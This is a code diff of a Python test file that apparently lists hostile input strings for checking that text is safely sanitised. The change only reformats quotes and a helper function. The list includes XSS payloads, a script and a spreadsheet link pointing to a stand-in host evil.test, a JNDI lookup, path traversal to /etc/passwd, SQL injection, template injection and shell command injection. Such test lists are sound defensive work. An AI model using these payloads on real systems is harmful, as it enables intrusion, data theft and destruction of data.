@@ -22,7 +22,7 @@ TEXTS: tuple[str, ...] = (
     "{{7*7}}{% if 1 %}${7*7}",
     f"<svg onload={HACK}><title>",
     "\u202egnirts desrever\u202c\u2066x\u2069",
-    "=HYPERLINK(\"http://evil.test\";\"x\")",
+    '=HYPERLINK("http://evil.test";"x")',
     "../../../../etc/passwd",
     "</script></style></textarea></title>-->",
     "Z̷̗͎̭̀̂a̵̪͕̐l̸͚̈́g̶̛̘o̴̰͗",
@@ -38,7 +38,7 @@ TEXTS: tuple[str, ...] = (
     "<script src=//evil.test/x.js></script>",
     f"<script type=module>{HACK}</script>",
     f"</script><script>{HACK}</script>",
-    f"<noscript><p title=\"</noscript><img src=x onerror={HACK}>\">",
+    f'<noscript><p title="</noscript><img src=x onerror={HACK}>">',
     f"<template><script>{HACK}</script></template>",
     f"<!--><script>{HACK}</script-->",
     f"<![CDATA[<script>{HACK}</script>]]>",
@@ -46,7 +46,7 @@ TEXTS: tuple[str, ...] = (
     # elements that do something by themselves
     f"<img src=x onerror={HACK}>",
     f"<img/src='x'/onerror={HACK}>",
-    f"<IMG \"\"\"><SCRIPT>{HACK}</SCRIPT>\">",
+    f'<IMG """><SCRIPT>{HACK}</SCRIPT>">',
     f"<image src=x onerror={HACK}>",
     f"<video><source onerror={HACK}></video>",
     f"<audio src=x onerror={HACK}>",
@@ -94,7 +94,7 @@ TEXTS: tuple[str, ...] = (
     f"data:text/html,<script>{HACK}</script>",
     f"vbscript:{HACK}",
     "//evil.test/x",
-    "http://evil.test/\"onclick=\"x",
+    'http://evil.test/"onclick="x',
     "file:///etc/passwd",
     # templates and code
     "{{config}}{{self.__init__.__globals__}}",
@@ -103,7 +103,7 @@ TEXTS: tuple[str, ...] = (
     "${jndi:ldap://evil.test/x}",
     "__import__('os').system('x')",
     "'; DROP TABLE moves; --",
-    "\" OR 1=1 --",
+    '" OR 1=1 --',
     "$(touch /tmp/x) `id` | id; id && id",
     # style
     "<style>*{display:none!important}</style>",
@@ -131,7 +131,11 @@ SAMPLE = TEXTS[:15]
 
 def bare(text: str) -> str:
     """What is left of a text when marks that nobody sees and the kind of blanks do not count."""
-    seen = "".join(c for c in unicodedata.normalize("NFC", text) if unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp"))
+    seen = "".join(
+        c
+        for c in unicodedata.normalize("NFC", text)
+        if unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp")
+    )
     return re.sub(r"[\s\ufffd]+", "", seen)
 
 
